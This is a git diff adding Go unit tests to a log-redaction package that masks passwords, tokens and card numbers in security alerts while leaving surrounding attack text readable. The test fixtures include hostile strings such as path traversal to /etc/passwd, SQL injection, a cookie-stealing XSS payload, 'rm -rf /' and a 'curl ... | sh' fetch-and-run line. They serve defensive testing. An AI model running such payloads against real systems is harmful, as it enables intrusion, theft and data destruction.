@@ -1,6 +1,7 @@
 package redact
 
 import (
+	"fmt"
 	"strings"
 	"testing"
 	"time"
@@ -139,6 +140,9 @@ func TestHostileTextsTakeNoLongerThanOthers(t *testing.T) {
 	for _, part := range []string{
 		"name=", "name=password ", `form-data; name="password" `, "://", "password=", `"password":"`, "<password>", "<password></b>",
 		`x=";`, "Cookie: a;", "password:{", "1 ", "4111 ", "bearer ", "basic ", "eyJ", "%34", "\n", "\\\"", "a=\\", "-----BEGIN ",
+		`"name":"password",`, `"name":"password",'`, "name=password&", "name: password\n", "<a name=password ", "<a name=", "<name>password</name><x>",
+		"password:$a ", `"p":{`, "Content-Disposition: x; name=password\n", "/token/", "/reset", `"token",`, " --token ", "%25", "&amp;", `\u005c`, "password: |\n",
+		"password=a ", "key=Zq7Xy9Wv2Kp4", "cGFzc3dvcmQ9aHVudGVy", "' = ", "&#37;2541", "%5cu0025", "1;\n",
 	} {
 		text := "Cookie: x=\"" + strings.Repeat(part, size/len(part))
 		start := time.Now()
@@ -157,7 +161,7 @@ func FuzzLine(f *testing.F) {
 	}
 	f.Fuzz(func(t *testing.T, text string) {
 		once := r.Line(text)
-		for _, s := range r.scan(text) {
+		for _, s := range r.scan(text).spans {
 			if s.start < 0 || s.end > len(text) || s.start >= s.end {
 				t.Fatalf("span %v of %d bytes", s, len(text))
 			}
@@ -165,4 +169,89 @@ func FuzzLine(f *testing.F) {
 		p := r.Start(&rules.Transaction{URI: text, RequestBody: text, RequestHeaders: []rules.Header{{Name: "Cookie", Value: text}}})
 		p.Text(once)
 	})
+}
+
+// What stands under a name that tells little, or near the name of a secret, is what an alert is read for.
+func TestWhatIsNoSecretStays(t *testing.T) {
+	r := newRedactor(t, nil, "")
+	p := r.Start(&rules.Transaction{RequestHeaders: []rules.Header{{Name: "Cookie", Value: "sid=9fQ2xW7zLp4Kd8"}}})
+	for _, text := range []string{
+		"/?key=name&t=../../etc/passwd", "/?key=user_id", "/?key=2024-05-30", "/?key=../../etc/passwd", "/?key=' OR 1=1--", "/?key=article/2024/my-title",
+		"/?code=404", "/?code=en-US", "/?code=SUMMER24", "/?state=NY", "/?state=california", "/?state=open&sort=asc", "/?zipcode=90210",
+		"/?hash=top", "/?ticket=1234", "/?sort_key=created_at", "/?monkey=banana", "/?keyword=tokenize", "/?passenger=3&spin=1",
+		"/?cookie_consent=accepted", "/?accept_cookies=true", "/?idempotency_key=550e8400-e29b-41d4-a716-446655440000",
+		"/reset/password", "/auth/login?next=/home", "/token/refresh", "/login/index.php", "/share/holiday-pictures-2024/beach",
+		"/articles/2024/05/30/how-to-reset-a-password", "/static/app.9f86d081.js", "/api/v2/users/12345/orders",
+		"https://git@host.example/x", "see https://host.example/a@b", "mailto:bob@host.example", "10:30:15@node1",
+		"Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==", "Sec-WebSocket-Protocol: graphql-transport-ws, v4.channel.k8s.io",
+		"ETag: \"33a64df551425fcc55e4d42a148795d9f25f89d4\"", "X-Request-Id: 7f3a9c1e5b2d4f60", "Accept: text/html,application/xhtml+xml;q=0.9,*/*;q=0.8",
+		"User-Agent: Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36", "WWW-Authenticate: Bearer realm=\"x\", error=\"invalid\"",
+		`{"name":"shoes","value":"Zq7Xy9Wv2Kp4"}`, `{"fields":["username","password","email"]}`, `{"key":"theme","value":"dark"}`, `{"code":404,"state":"open"}`,
+		`{"type":"text","value":"hello"}`, "name=bob&value=3", "<name>shoes</name><value>3</value>", `<input name="q" value="shoes">`, `<meta name="viewport" content="width=device-width">`,
+		"Content-Disposition: form-data; name=\"comment\"\r\n\r\nhello", "1 UNION SELECT name, value FROM users--", "q=<script>alert(document.cookie)</script>",
+		"q=%3Cscript%3Ealert(1)%3C/script%3E", "q=%27%20OR%201%3D1--", "q=a%26b%3Dc", "the key to success is a token of trust", "select * from keys where id=1",
+		"rm -rf / --no-preserve-root x", "2024-05-30 07:16:48 192.0.2.1 - - 200 1234 567", "IMG_20240530_071648.jpg", "a+b+c=d+e", "x=aGVsbG8gd29ybGQgaGVsbG8gd29ybGQ=",
+	} {
+		require.Equal(t, text, r.Line(text))
+		require.Equal(t, text, p.Quoted(text))
+	}
+}
+
+func TestAttacksInFrontOfAndBehindASecretStay(t *testing.T) {
+	r := newRedactor(t, nil, "")
+	for text, want := range map[string]string{
+		"/?q=<script>&key=Zq7Xy9Wv2Kp4Lm6001&t=../../etc/passwd":     "/?q=<script>&key=[redacted]&t=../../etc/passwd",
+		"/?key=Zq7Xy9Wv2Kp4Lm6001' OR 1=1--":                         "/?key=[redacted]' OR 1=1--",
+		"/?code=123456&state=NY":                                     "/?code=[redacted]&state=NY",
+		"/?u=http%3A%2F%2Fh%2F%3Fpwd%3Dhunter22%26x%3D1&t=%3Cscript": "/?u=http%3A%2F%2Fh%2F%3Fpwd%3D[redacted]%26x%3D1&t=%3Cscript",
+		"/?password%3dhunter22&t=../../etc/passwd":                   "/?password%3d[redacted]&t=../../etc/passwd",
+		`{"url":"/x?pwd\u003dhunter22\u0026q\u003d<script>"}`:        `{"url":"/x?pwd\u003d[redacted]\u0026q\u003d<script>"}`,
+		"https://hunter22@h.example/?q=<script>":                     "https://[redacted]@h.example/?q=<script>",
+		"/reset/token/Zq7Xy9Wv2Kp4Lm6001/../../etc/passwd":           "/reset/token/[redacted]/../../etc/passwd",
+		"curl -u bob:hunter22 http://h/ | sh":                        "curl -u bob:[redacted] http://h/ | sh",
+	} {
+		require.Equal(t, want, r.Line(text))
+	}
+}
+
+func TestAnyNumberOfSecretsIsLearned(t *testing.T) {
+	r := newRedactor(t, nil, "")
+	var body strings.Builder
+	for i := range 5000 {
+		fmt.Fprintf(&body, "token%d=decoy-decoy-%05d&", i, i)
+	}
+	p := r.Start(&rules.Transaction{RequestBody: body.String() + "password=hunter-number-2"})
+	require.Equal(t, "a [redacted] b [redacted]", p.Text("a hunter-number-2 b decoy-decoy-04999"))
+	require.Equal(t, "a decoy-decoy-x", p.Text("a decoy-decoy-x"))
+
+	for i := range 20000 {
+		fmt.Fprintf(&body, "token%d=another-secret-%05d&", i, i)
+	}
+	p = r.Start(&rules.Transaction{RequestBody: body.String()})
+	require.Equal(t, Placeholder, p.Text("Path Traversal Attack"), "more than can be learned: nothing can be told from a secret")
+}
+
+func TestLongNamesAreNames(t *testing.T) {
+	r := newRedactor(t, nil, "")
+	name := "password" + strings.Repeat("x", 5000)
+	require.Equal(t, name+"="+Placeholder, r.Line(name+"=hunter22"))
+	require.Equal(t, `{"`+name+`":"`+Placeholder+`"}`, r.Line(`{"`+name+`":"hunter22"}`))
+}
+
+func TestCardsAreFoundBehindEscapes(t *testing.T) {
+	r := newRedactor(t, nil, "")
+	const card = "4111111111111111"
+	percent, unicode := "", ""
+	for _, c := range card {
+		percent += fmt.Sprintf("%%%02x", c)
+		unicode += fmt.Sprintf(`\u%04x`, c)
+	}
+	for text, want := range map[string]string{
+		"/?c=" + percent + "&x=1":       "/?c=[redacted]&x=1",
+		`{"c":"` + unicode + `"}`:       `{"c":"[redacted]"}`,
+		"/?c=%34111-1111%2d1111-1111":   "/?c=[redacted]",
+		"4111\u00a01111\u20111111_1111": "[redacted]",
+	} {
+		require.Equal(t, want, r.Line(text))
+	}
 }
